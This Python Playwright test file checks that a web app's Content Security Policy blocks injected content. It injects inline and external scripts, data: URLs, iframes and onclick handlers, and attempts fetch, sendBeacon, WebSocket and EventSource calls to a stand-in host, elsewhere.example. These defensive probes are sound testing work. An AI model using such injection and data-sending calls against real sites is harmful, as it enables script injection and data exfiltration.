"""The page's policy for content: every screen works under it, and no script runs that is not the app's own."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from playwright.sync_api import Page, expect

from tests.browser import screenshots
from tests.browser.conftest import App
from tests.browser.screenshots import about, atlas, compare, explain, live, practise, queue, results
from tests.browser.steps import open_app
from tests.ui.mapped import MappedReflector

pytestmark = pytest.mark.browser

LISTEN = """
window.refused = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.refused.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile} ${event.sample}`);
});
"""
INJECT = """([tag, name, value]) => {
  const made = document.createElement(tag);
  if (name) made.setAttribute(name, value);
  else made.textContent = value;
  document.body.append(made);
}"""


def opened(page: Page, url: str) -> Page:
    page.add_init_script(LISTEN)
    open_app(page, url)
    return page


@pytest.mark.parametrize("kind", ["mapped", "scripted"])
def test_no_screen_meets_the_policy(
    kind: str, new_page: Callable[..., Page], app: Callable[..., App], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("EMORL_RESULTS_PASSWORD", screenshots.PASSWORD)
    url = app(reflector=MappedReflector() if kind == "mapped" else None).url
    page = opened(new_page(watched=False), url)  # a page that is left ends its streams, which counts as an error there
    for come in (live, atlas, explain, compare, queue, results, about) if kind == "mapped" else (practise,):
        page.goto(url)
        expect(page.locator("#widget-mixer input[type=range]").first).to_be_visible()
        come(page)
        assert page.evaluate("refused") == [], come.__name__


PUT_IN = (
    ("script", "", "window.ran = true", "script-src-elem"),
    ("script", "src", "https://elsewhere.example/x.js", "script-src-elem"),
    ("script", "src", "data:text/javascript,window.ran=true", "script-src-elem"),
    ("iframe", "src", "https://elsewhere.example/", "frame-src"),
    ("img", "src", "https://elsewhere.example/x.png", "img-src"),
    ("object", "data", "/static/img/logo.svg", "object-src"),
    ("div", "onclick", "window.ran = true", "script-src-attr"),
)


def test_what_is_put_into_the_page_does_not_run(new_page: Callable[..., Page], app: Callable[..., App]) -> None:
    page = opened(new_page(watched=False), app().url)
    for tag, name, value, rule in PUT_IN:
        page.evaluate("refused.length = 0")
        page.evaluate(INJECT, [tag, name, value])
        page.evaluate("document.body.lastElementChild.click()")
        page.wait_for_function("refused.length")
        assert page.evaluate("refused[0]").split()[0] == rule, value
        assert page.evaluate("window.ran") is None, value
    page.evaluate(INJECT, ["iframe", "srcdoc", "<p>shown</p><script>parent.ran = true</script>"])
    expect(page.frame_locator("iframe").last.get_by_text("shown")).to_be_visible()
    assert page.evaluate("window.ran") is None  # the frame reports to itself


def test_nothing_can_be_sent_elsewhere(new_page: Callable[..., Page], app: Callable[..., App]) -> None:
    page = opened(new_page(watched=False), app().url)
    for send in (
        "fetch('https://elsewhere.example/', { mode: 'no-cors' }).catch(() => {})",
        "navigator.sendBeacon('https://elsewhere.example/', 'x')",
        "void new WebSocket('wss://elsewhere.example/')",
        "void new EventSource('https://elsewhere.example/')",
    ):
        page.evaluate("refused.length = 0")
        page.evaluate(f"async () => {{ try {{ await {send}; }} catch {{ /* refused at once */ }} }}")
        page.wait_for_function("window.refused.length")
        assert page.evaluate("refused[0]").startswith("connect-src"), send
